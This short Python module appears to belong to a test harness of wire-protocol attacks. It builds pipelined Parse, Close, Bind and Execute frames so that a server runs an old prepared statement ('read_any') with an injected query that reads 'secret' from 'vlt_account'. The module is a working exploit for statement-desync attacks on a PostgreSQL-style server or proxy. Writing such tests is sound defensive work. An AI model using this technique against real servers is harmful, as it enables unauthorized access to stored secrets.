"""Lets a Close and a Parse be skipped in the same send as what runs the old statement."""

from attacks.frames import SYNC, ask, bind, close, execute, parse
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, parse(b"SELECT read_any($1)", b"s"), SYNC)
        skipped = parse(b"SELECT nothing") + close(b"S", b"s")
        skipped += parse(b"SELECT id::text FROM customer WHERE name = $1", b"s") + SYNC
        run = bind(b"s", values=[b"SELECT secret FROM vlt_account"]) + execute() + SYNC
        return ask(client, skipped + run, rounds=2)
